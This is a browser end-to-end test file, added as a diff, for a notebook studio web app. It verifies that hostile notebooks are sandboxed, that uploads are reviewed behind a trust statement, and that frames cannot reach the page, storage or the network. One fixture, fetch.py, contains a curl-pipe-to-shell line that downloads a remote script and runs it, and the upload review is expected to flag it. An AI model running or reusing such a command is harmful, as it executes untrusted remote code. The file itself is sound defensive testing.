@@ -1,0 +1,190 @@
+// The studio in Debian's Chromium against a real server: a person signs in, makes a workspace, reviews and uploads
+// notebooks after agreeing to the trust statement, and reads them. Hostile notebooks run nothing in the page;
+// their outputs run only inside sandboxed frames from the content origin, which cannot reach the page, storage or
+// the network; links and images go through the server's check.
+import { after, before, test } from "node:test";
+import assert from "node:assert/strict";
+import { createServer, type Server } from "node:http";
+import { mkdirSync } from "node:fs";
+import type { Page } from "playwright-core";
+import { launchBrowser, type Browser } from "./browser.ts";
+import { frameAttackNotebook, pageAttackNotebook, PWNED } from "./hostile-notebooks.ts";
+import { startBrowserStudio, type BrowserStudio } from "./running-studio.ts";
+
+const PASSWORD = "studio test password";
+const SHOTS = new URL("../../test-results/screenshots/", import.meta.url).pathname;
+let studio: BrowserStudio;
+let browser: Browser;
+let beacon: Server;
+let beaconUrl = "";
+const beaconHits: string[] = [];
+let workspaceUrl = "";
+
+before(async () => {
+  mkdirSync(SHOTS, { recursive: true });
+  beacon = createServer((req, res) => {
+    beaconHits.push(req.url ?? "");
+    res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" }).end("ok");
+  });
+  await new Promise<void>((resolve) => beacon.listen(0, "127.0.0.1", resolve));
+  beaconUrl = `http://127.0.0.1:${(beacon.address() as { port: number }).port}/`;
+  studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }]);
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await studio?.close();
+  beacon?.close();
+});
+
+/** Console errors the page reports, except the refusals of the CSP and of the frames' sandbox: those are the defences working. */
+function watchErrors(page: Page): string[] {
+  const errors: string[] = [];
+  page.on("pageerror", (error) => errors.push(`pageerror: ${error.message}`));
+  page.on("console", (message) => {
+    if (message.type() !== "error") return;
+    const text = message.text();
+    if (/Content Security Policy|Failed to load resource|sandboxed/.test(text)) return;
+    errors.push(text);
+  });
+  return errors;
+}
+
+/** Signs in through the form, unless the browser's session (an HttpOnly cookie) is still live. */
+async function signIn(page: Page): Promise<void> {
+  await page.goto(`${studio.app}/`);
+  const workspaces = page.getByRole("heading", { name: "Workspaces" });
+  const form = page.getByLabel("User name");
+  await workspaces.or(form).waitFor();
+  if (await workspaces.isVisible()) return;
+  await form.fill("ada");
+  await page.getByLabel("Password").fill(PASSWORD);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.getByRole("heading", { name: "Workspaces" }).waitFor();
+}
+
+test("sign in, make a workspace, review and upload with the trust statement", async () => {
+  const page = await browser.context.newPage();
+  const errors = watchErrors(page);
+  await signIn(page);
+  await page.getByLabel("New workspace").fill("Lab");
+  await page.getByRole("button", { name: "Create" }).click();
+  await page.getByRole("heading", { name: "Lab" }).waitFor();
+  workspaceUrl = page.url();
+  assert.match(new URL(workspaceUrl).pathname, /^\/w\/[A-Za-z0-9_-]{16}$/);
+
+  await page.locator('input[type="file"]').setInputFiles([
+    { name: "page-attack.ipynb", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(pageAttackNotebook(beaconUrl))) },
+    { name: "frames.ipynb", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(frameAttackNotebook(beaconUrl))) },
+    { name: "fetch.py", mimeType: "text/x-python", buffer: Buffer.from("import os\nos.system('curl https://example.org/x.sh | sh')\n") },
+    { name: "broken.ipynb", mimeType: "application/json", buffer: Buffer.from('{"nbformat": 4,') },
+  ]);
+  const dialog = page.getByRole("dialog", { name: /Upload 4 files/ });
+  await dialog.waitFor();
+  // The review comes first: what each file would do, and which one the upload would refuse.
+  await dialog.getByText("Will be refused").waitFor();
+  await dialog.locator(".vt-sev-high").first().waitFor();
+  const upload = dialog.getByRole("button", { name: "Upload" });
+  assert.equal(await upload.isDisabled(), true, "no upload before the trust statement is ticked");
+  const statement = dialog.getByLabel(/I have reviewed these files, or they come from a source I trust/);
+  assert.equal(await statement.isChecked(), false);
+  await page.screenshot({ path: `${SHOTS}studio-upload-review.png` });
+  await statement.check();
+  await upload.click();
+  await dialog.getByText("Stored as version 1").nth(2).waitFor();
+  await page.screenshot({ path: `${SHOTS}studio-upload-done.png` });
+  await dialog.getByRole("button", { name: "Close" }).click();
+  for (const name of ["page-attack.ipynb", "frames.ipynb", "fetch.py"]) await page.getByRole("link", { name }).waitFor();
+  assert.equal(await page.getByRole("link", { name: "broken.ipynb" }).count(), 0, "the refused file was not stored");
+  assert.deepEqual(errors, []);
+  await page.close();
+});
+
+test("a hostile notebook runs nothing in the studio page and reaches nothing", async () => {
+  const page = await browser.context.newPage();
+  const errors = watchErrors(page);
+  let dialogs = 0;
+  page.on("dialog", (d) => {
+    dialogs += 1;
+    void d.dismiss();
+  });
+  await signIn(page);
+  await page.goto(`${workspaceUrl}/f/page-attack.ipynb`);
+  await page.locator(".vt-cell").first().waitFor({ state: "attached" });
+  await page.locator(".vt-image-blocked").first().waitFor();
+  await page.waitForTimeout(500);
+  assert.equal(await page.evaluate((attr) => document.documentElement.getAttribute(attr), PWNED), null);
+  assert.equal(dialogs, 0);
+  assert.deepEqual(beaconHits, [], "the page never called the beacon");
+  // The fake overlay is held inside its cell's box: it covers none of the studio's controls.
+  const signOut = await page.getByRole("button", { name: "Sign out" }).boundingBox();
+  const hit = await page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.textContent ?? "", { x: (signOut?.x ?? 0) + 5, y: (signOut?.y ?? 0) + 5 });
+  assert.equal(hit, "Sign out");
+  assert.deepEqual(errors, []);
+  await page.screenshot({ path: `${SHOTS}studio-hostile-page.png`, fullPage: false });
+  await page.close();
+});
+
+test("outputs run only in their sandboxed frames on the content origin, which cannot get out", async () => {
+  const page = await browser.context.newPage();
+  const errors = watchErrors(page);
+  let dialogs = 0;
+  page.on("dialog", (d) => {
+    dialogs += 1;
+    void d.dismiss();
+  });
+  await signIn(page);
+  await page.goto(`${workspaceUrl}/f/frames.ipynb`);
+  await page.locator("iframe.vt-frame").first().waitFor();
+  const frames = page.locator("iframe.vt-frame");
+  assert.equal(await frames.count(), 4);
+  for (let i = 0; i < 4; i++) {
+    const frame = frames.nth(i);
+    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts");
+    assert.equal(new URL((await frame.getAttribute("src")) ?? "").origin, studio.content);
+  }
+  // Each script-bearing output records, in its own document, what it could reach. (The markdown output's script
+  // was removed by the sanitizer before the frame got it.)
+  const results: Record<string, Record<string, string>> = {};
+  for (const child of page.frames()) {
+    if (child === page.mainFrame()) continue;
+    const handle = await child.waitForFunction(() => document.body?.getAttribute("data-escape-results") ?? (document.querySelector("h1") ? "markdown" : null), undefined, { timeout: 10_000 });
+    const value = (await handle.jsonValue()) as string;
+    if (value === "markdown") continue;
+    results[await child.evaluate(() => (document.querySelector("svg") ? "svg" : document.getElementById("output") ? "js" : "html"))] = JSON.parse(value) as Record<string, string>;
+  }
+  assert.deepEqual(Object.keys(results).sort(), ["html", "js", "svg"]);
+  for (const [label, r] of Object.entries(results)) {
+    for (const key of ["parentDocument", "topLocationRead", "cookie", "localStorage", "sessionStorage", "indexedDB", "fetch", "xhr", "image", "windowOpen", "topNavigation"]) {
+      assert.match(r[key] ?? "", /^blocked:/, `${label}: ${key} must be blocked, got ${r[key]}`);
+    }
+  }
+  assert.equal(dialogs, 0, "sandboxed frames cannot open dialogs");
+  assert.equal(await page.evaluate((attr) => document.documentElement.getAttribute(attr), PWNED), null);
+  assert.deepEqual(beaconHits, []);
+  // Frames are sized from their height messages.
+  const heights = await frames.evaluateAll((list) => list.map((f) => (f as HTMLIFrameElement).getBoundingClientRect().height));
+  assert.ok(heights.every((h) => h >= 16 && h <= 4000), JSON.stringify(heights));
+  assert.deepEqual(errors, []);
+  await page.screenshot({ path: `${SHOTS}studio-frames.png`, fullPage: true });
+  await page.close();
+});
+
+test("addresses are stable: back and forward work, and a script opens highlighted with line numbers", async () => {
+  const page = await browser.context.newPage();
+  await signIn(page);
+  await page.goto(workspaceUrl);
+  await page.getByRole("link", { name: "fetch.py" }).click();
+  await page.locator(".vt-script").waitFor();
+  assert.match(decodeURIComponent(new URL(page.url()).pathname), /\/f\/fetch\.py$/);
+  assert.equal(await page.locator(".vt-line-number").count(), 3);
+  assert.ok((await page.locator(".vt-script .hljs-keyword, .vt-script .hljs-built_in").count()) > 0, "highlighted");
+  await page.getByText(/Review: 1 high|Review: \d+ high/).waitFor();
+  await page.goBack();
+  await page.getByRole("heading", { name: "Lab" }).waitFor();
+  await page.goForward();
+  await page.locator(".vt-script").waitFor();
+  await page.screenshot({ path: `${SHOTS}studio-script.png` });
+  await page.close();
+});
